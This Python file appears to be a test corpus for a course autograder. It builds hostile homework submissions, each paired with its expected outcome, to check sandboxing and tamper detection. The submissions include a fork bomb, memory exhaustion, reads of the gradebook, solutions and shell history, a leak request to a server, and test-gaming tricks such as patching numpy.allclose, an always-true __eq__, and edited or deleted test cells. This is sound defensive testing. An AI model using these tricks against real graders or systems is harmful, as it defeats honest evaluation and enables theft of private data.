"""The hostile corpus: hw1 submissions that attack or break grading, each with its expected outcome.

Beside the attacks it holds the demo's sample class (the reference answers, the
realistic mistakes, the untouched release and a cut-short file), so that one
run shows how ordinary and hostile submissions are graded together.

Every case starts from the reference answers (or the untouched release) and
changes one thing. `failed` names the test cells that must score zero: a grade
id, or ``"from:<grade id>"`` for that test cell and every one after it (a
tampered kernel loses every test that runs after the tampering). Every other
test cell must get full points.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_output

from course_tools.autograde import GRADED, PARTLY, REJECTED
from course_tools.course import Course
from course_tools.samples import reference_submission, with_variants
from course_tools.variants import load_variants

ASSIGNMENT = "hw1_foundations"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
REPO = Path(__file__).resolve().parents[2]
# The demo's mistaken student: each in-sample variant fails the test cells it declares.
MISTAKES = [v for v in load_variants(REPO / "samples", ASSIGNMENT)
            if v.in_sample and v.verdict == "wrong"]
ANSWER = "sigmoid"  # the solution cell most cases attack, and the test right after it
TEST = "test_sigmoid"


@dataclass
class Context:
    """What the cases need to know about the run: paths to attack, the server to phone."""

    course_root: Path
    reference: nbformat.NotebookNode
    release_text: str
    wrong_sigmoid: str  # a realistic wrong answer that fails test_sigmoid only
    server_url: str


@dataclass
class Case:
    name: str
    build: Callable[[Context, Path], None]  # writes the submission into the folder
    status: str
    failed: tuple[str, ...] = ()
    flags: tuple[str, ...] = ()  # substrings that must appear among the flags
    reasons: tuple[str, ...] = ()  # substrings that must appear among the reasons
    notes: tuple[str, ...] = ()
    why: str = ""
    extra: dict = field(default_factory=dict)


def corpus_context(repo: Course, course: Course, server_url: str) -> Context:
    """The Context for `course`, whose hw1 is released; answers come from `repo`'s samples."""
    release_path = course.release_dir / ASSIGNMENT / NOTEBOOK
    release_nb = nbformat.read(release_path, as_version=4)
    source_nb = nbformat.read(course.source_dir / ASSIGNMENT / NOTEBOOK, as_version=4)
    wrong = next(v for v in load_variants(repo.root / "samples", ASSIGNMENT)
                 if v.name == "sigmoid_clip_inputs")
    return Context(course.root, reference_submission(release_nb, source_nb),
                   release_path.read_text(), wrong.code, server_url)


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _write(nb, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / NOTEBOOK)


def inject(code: str, wrong: bool = False) -> Callable[[Context, Path], None]:
    """A new cell with `code` right after the sigmoid answer (`wrong`: with a wrong sigmoid)."""
    def build(ctx: Context, folder: Path) -> None:
        nb = nbformat.from_dict(ctx.reference)
        answer = _cell(nb, ANSWER)
        if wrong:
            answer.source = ctx.wrong_sigmoid
        nb.cells.insert(nb.cells.index(answer) + 1,
                        new_code_cell(code.format(root=ctx.course_root, url=ctx.server_url)))
        _write(nb, folder)
    return build


def edit(change: Callable[[Context, nbformat.NotebookNode], None]
         ) -> Callable[[Context, Path], None]:
    def build(ctx: Context, folder: Path) -> None:
        nb = nbformat.from_dict(ctx.reference)
        change(ctx, nb)
        _write(nb, folder)
    return build


def _perfect(ctx: Context, folder: Path) -> None:
    _write(nbformat.from_dict(ctx.reference), folder)


def _mistakes(ctx: Context, folder: Path) -> None:
    _write(with_variants(ctx.reference, MISTAKES), folder)


def _blank(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(ctx.release_text)


def _malformed(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(ctx.release_text[: len(ctx.release_text) // 3])


def _edited_test(ctx: Context, nb) -> None:
    _cell(nb, ANSWER).source = ctx.wrong_sigmoid
    _cell(nb, TEST).source = "pass  # nothing to see here"


def _deleted_test(ctx: Context, nb) -> None:
    _cell(nb, ANSWER).source = ctx.wrong_sigmoid
    nb.cells.remove(_cell(nb, TEST))


def _deleted_answer(ctx: Context, nb) -> None:
    nb.cells.remove(_cell(nb, ANSWER))


def _deleted_answer_and_test(ctx: Context, nb) -> None:
    nb.cells.remove(_cell(nb, ANSWER))
    nb.cells.remove(_cell(nb, TEST))


def _deleted_written_answer(ctx: Context, nb) -> None:
    nb.cells.remove(_cell(nb, "answer_timing"))


def _old_format(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.convert(nbformat.from_dict(ctx.reference), 3), folder / NOTEBOOK,
                   version=3)


def _renamed(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.from_dict(ctx.reference), folder / "hw1_foundations (final).ipynb")


def _no_notebook(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "answers.txt").write_text("my answers are in my head\n")


def _always_equal(ctx: Context, nb) -> None:
    _cell(nb, ANSWER).source = (
        "class Anything(float):\n"
        "    def __eq__(self, other):\n"
        "        return True\n\n"
        "    __hash__ = float.__hash__\n\n\n"
        "def sigmoid(x):\n"
        "    return Anything(0.5)\n"
    )


def _stored_output(ctx: Context, folder: Path) -> None:
    nb = nbformat.from_dict(ctx.reference)
    _cell(nb, ANSWER).outputs = [new_output("stream", name="stdout", text="x" * (300 << 20))]
    _write(nb, folder)


def _extra_files(ctx: Context, folder: Path) -> None:
    _perfect(ctx, folder)
    fake = "def assert_close(*args, **kwargs):\n    pass\n"
    (folder / "utils").mkdir()
    (folder / "utils" / "__init__.py").write_text("")
    (folder / "utils" / "testing.py").write_text(fake)
    (folder / "numpy.py").write_text("allclose = lambda *a, **k: True\n")
    (folder / "notes.txt").write_text("my notes\n")


def _symlink(ctx: Context, folder: Path) -> None:
    _perfect(ctx, folder)
    os.symlink(ctx.course_root / "source" / ASSIGNMENT / NOTEBOOK, folder / "solutions.ipynb.txt")


SECRET_READS = """
import os
for path in ["{root}/source/hw1_foundations/hw1_foundations.ipynb", "{root}/gradebook.db",
             "{root}/nbgrader_config.py", os.path.expanduser("~/.bash_history"),
             "/root/.bash_history"]:
    try:
        print(open(path, errors="replace").read())
    except OSError as exc:
        print("cannot read", path, exc)
print(os.listdir("/"), os.listdir("{root}") if os.path.isdir("{root}") else "no course folder")
print(In)
"""

WRITES = """
for path in ["{root}/pwned.txt", "{root}/source/pwned.txt", "{root}/submitted/pwned.txt"]:
    try:
        open(path, "w").write("pwned")
    except OSError as exc:
        print("cannot write", path, exc)
open("note-in-scratch.txt", "w").write("a file of my own is fine")
"""

NETWORK = """
import urllib.request
try:
    urllib.request.urlopen("{url}/leak?secret=1", timeout=5)
    print("request went through")
except OSError as exc:
    print("no network:", exc)
"""

CASES = [
    Case("perfect", _perfect, GRADED, why="the reference answers"),
    Case("mistakes", _mistakes, GRADED,
         failed=tuple(sorted(set().union(*(v.expect_fail for v in MISTAKES)))),
         why="realistic mistakes lose their own tests' points and nothing is flagged"),
    Case("blank", _blank, GRADED, failed=("from:test_mlp_parameter_count",),
         why="the release, untouched"),
    Case("infinite-loop", inject("while True:\n    pass"), PARTLY, reasons=("cell limit",),
         why="a runaway cell is interrupted; the notebook goes on"),
    Case("sleep", inject("import time\ntime.sleep(3600)"), PARTLY, reasons=("cell limit",)),
    Case("memory", inject("import numpy as np\nblocks = []\nfor _ in range(50):\n"
                          "    blocks.append(np.ones(2**27))  # 1 GiB each, 50 GiB in all"),
         PARTLY, failed=(f"from:{TEST}",), reasons=("memory limit", "kernel died")),
    Case("fork-bomb", inject("import os\nwhile True:\n    try:\n        os.fork()\n"
                             "    except OSError:\n        pass"),
         PARTLY, failed=(f"from:{TEST}",), reasons=("process limit", "stopped answering"),
         notes=("processes running",),
         why="forked copies of the kernel share its connections: the kernel is not trusted after"),
    Case("exit", inject("import os\nos._exit(1)"), PARTLY, failed=(f"from:{TEST}",),
         reasons=("kernel died",)),
    Case("network", inject(NETWORK), GRADED, why="the request must never reach the server"),
    Case("read-secrets", inject(SECRET_READS), GRADED,
         why="nothing of source/, the gradebook or the home folder may reach an output"),
    Case("write-course", inject(WRITES), GRADED, why="no file may appear outside the scratch copy"),
    Case("patch-numpy",
         inject("import numpy as np\nnp.allclose = lambda *a, **k: True", wrong=True),
         GRADED, failed=(f"from:{TEST}",), flags=("numpy.allclose was replaced",)),
    Case("patch-helper", inject("import utils.testing\n"
                                "utils.testing.assert_close = lambda *a, **k: None\n"
                                "assert_close = utils.testing.assert_close", wrong=True),
         GRADED, failed=(f"from:{TEST}",), flags=("assert_close",)),
    Case("custom-exception-handler",
         inject("get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)", wrong=True),
         GRADED, failed=(f"from:{TEST}",), flags=("custom exception handler",)),
    Case("always-equal", edit(_always_equal), GRADED, failed=(f"from:{TEST}",),
         flags=("__eq__",)),
    Case("edited-test", edit(_edited_test), GRADED, failed=(TEST,), flags=("was edited",)),
    Case("deleted-test", edit(_deleted_test), GRADED, failed=(TEST,), flags=("was deleted",)),
    Case("deleted-answer", edit(_deleted_answer), GRADED,
         failed=(TEST, "test_tanh_from_sigmoid"), flags=("answer cell sigmoid was deleted",),
         why="the tests of a missing answer, and of the answers built on it, fail"),
    Case("deleted-answer-and-test", edit(_deleted_answer_and_test), GRADED,
         failed=(TEST, "test_tanh_from_sigmoid"), flags=("test cell test_sigmoid was deleted",),
         why="nbgrader itself cannot put a test back when the cell before it is gone too"),
    Case("deleted-written-answer", edit(_deleted_written_answer), GRADED,
         flags=("answer cell answer_timing was deleted (put back as released)",)),
    Case("malformed", _malformed, REJECTED, reasons=("not valid JSON",)),
    Case("old-format", _old_format, REJECTED, reasons=("format 3",)),
    Case("renamed", _renamed, REJECTED, reasons=("renamed?",)),
    Case("no-notebook", _no_notebook, REJECTED, reasons=("none of the expected notebooks",)),
    Case("stored-300MB", _stored_output, GRADED, notes=("300 MB",)),
    Case("printed-300MB", inject("for _ in range(300):\n    print('x' * 2**20)"), GRADED,
         notes=("output cut",)),
    Case("extra-files", _extra_files, GRADED, flags=("utils/testing.py", "numpy.py"),
         notes=("notes.txt",)),
    Case("symlink", _symlink, REJECTED, reasons=("symbolic links",)),
]
